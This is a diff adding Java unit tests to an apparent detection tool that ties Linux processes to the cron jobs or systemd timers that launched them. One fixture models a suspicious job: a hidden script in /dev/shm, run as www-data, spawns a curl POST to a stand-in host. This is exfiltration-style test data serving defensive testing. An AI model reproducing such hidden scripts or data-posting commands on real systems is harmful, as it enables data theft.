@@ -93,4 +93,50 @@ class JobLedgerTest {
 
     assertThat(ledger.definition("ws02.CORP.example", TASK.toUpperCase()).source()).isEqualTo("Security 4698");
   }
+
+  private static dev.cronhound.core.event.ProcessStart linux(long t, long pid, String exe, String cmd, String user, long ppid) {
+    return new dev.cronhound.core.event.ProcessStart(t, "web01", new ProcessRef(null, pid), exe, cmd, user, "/",
+        new ProcessRef(null, ppid), null, null, null, null, new dev.cronhound.core.event.Origin("audit.log", t / S));
+  }
+
+  private static dev.cronhound.core.event.ScheduledJob crontab(String command, String kind) {
+    return new dev.cronhound.core.event.ScheduledJob(T0, "web01", "/var/spool/cron/crontabs/www-data:3 " + command,
+        dev.cronhound.core.event.ScheduledJob.Change.REGISTERED, null, "www-data",
+        java.util.List.of(new dev.cronhound.core.event.JobAction(command, null, null)),
+        java.util.List.of(new dev.cronhound.core.event.JobTrigger(kind, null, 900, "*/15 * * * *")),
+        true, kind.equals("cron") ? "crontab" : "systemd-timer", null, null, null, null);
+  }
+
+  @Test
+  void aCronJobsShellIsTiedThroughTheForkedCronChildsPid() {
+    ledger.add(new JobRun(T0 + 60 * S, "web01", "/dev/shm/.cache/up.sh", JobRun.Phase.PROCESS_CREATED, null, null,
+        31337, -1, "www-data", null));
+    table.add(linux(T0 + 60 * S + 5000, 31338, "/usr/bin/dash", "/bin/sh -c /dev/shm/.cache/up.sh", "www-data", 31337));
+    table.add(linux(T0 + 61 * S, 31340, "/usr/bin/curl", "curl -s -X POST https://x/u", "www-data", 31338));
+
+    JobLink link = ledger.link(table.lineage(table.find("web01", new ProcessRef(null, 31340), T0 + 62 * S).orElseThrow()));
+    assertThat(link.job()).isEqualTo("/dev/shm/.cache/up.sh");
+    assertThat(link.linkedBy()).isEqualTo("TaskScheduler 129 (pid 31337, parent of dash)");
+  }
+
+  @Test
+  void aTimerServiceStartedByPidOneIsTiedByItsDefinitionsCommand() {
+    ledger.add(crontab("/usr/local/bin/sys-telemetry", "systemd-timer"));
+    table.add(linux(T0 + 3600 * S, 4100, "/usr/bin/bash", "/bin/bash /usr/local/bin/sys-telemetry", "svc-metrics", 1));
+    table.add(linux(T0 + 3601 * S, 4101, "/usr/bin/python3", "python3 /usr/local/lib/telemetry/send.py", "svc-metrics", 4100));
+
+    JobLink link = ledger.link(table.lineage(table.find("web01", new ProcessRef(null, 4101), T0 + 3602 * S).orElseThrow()));
+    assertThat(link.job()).isEqualTo("/var/spool/cron/crontabs/www-data:3 /usr/local/bin/sys-telemetry");
+    assertThat(link.mechanism()).isEqualTo(JobLink.SYSTEMD_TIMER);
+    assertThat(link.technique()).isEqualTo("T1053.006");
+    assertThat(link.linkedBy()).isEqualTo("systemd-timer definition runs bash (parent pid 1)");
+  }
+
+  @Test
+  void aDaemonUnderPidOneThatNoJobRunsIsNoJob() {
+    ledger.add(crontab("/usr/local/bin/sys-telemetry", "systemd-timer"));
+    table.add(linux(T0, 800, "/usr/sbin/nginx", "nginx -g daemon off;", "root", 1));
+
+    assertThat(ledger.link(table.lineage(table.find("web01", new ProcessRef(null, 800), T0 + S).orElseThrow()))).isNull();
+  }
 }
